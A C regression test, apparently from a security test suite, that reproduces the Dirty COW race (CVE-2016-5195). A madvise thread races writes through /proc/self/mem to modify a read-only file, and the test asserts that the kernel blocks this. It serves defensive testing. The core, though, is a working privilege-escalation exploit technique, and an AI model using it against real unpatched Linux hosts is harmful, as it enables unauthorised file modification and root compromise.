// Writes to a file that it may only read, by racing the copy of its private mapping against its loss.
// @technique T1068
// @weakness CWE-362
// @cve CVE-2016-5195
// @stopped-by kernel
// @options {"policy":"compat","isolation":"none"}
// @control none: fixed in Linux 4.8.3
// @attempts 1
// @flags -pthread
#include <pthread.h>

#include "../attack.h"

static char* page;
static volatile int stop;
static void* forget(void* unused) {
  while (!stop) madvise(page, 4096, MADV_DONTNEED);
  return unused;
}

int main(void) {
  char name[] = "/tmp/barchan-cow-XXXXXX", byte = 0;
  int file = mkstemp(name);
  CONTROL("a file", write(file, "original", 8));
  close(file);
  file = open(name, O_RDONLY);
  page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  pthread_t thread;
  CONTROL("thread", -pthread_create(&thread, NULL, forget, NULL));
  while (for_seconds(1)) pwrite(memory, "X", 1, (off_t)page);
  stop = 1;
  pthread_join(thread, NULL);
  pread(file, &byte, 1, 0);
  MUST_NOT("write", byte == 'X', "unchanged");
  unlink(name);
  return 0;
}
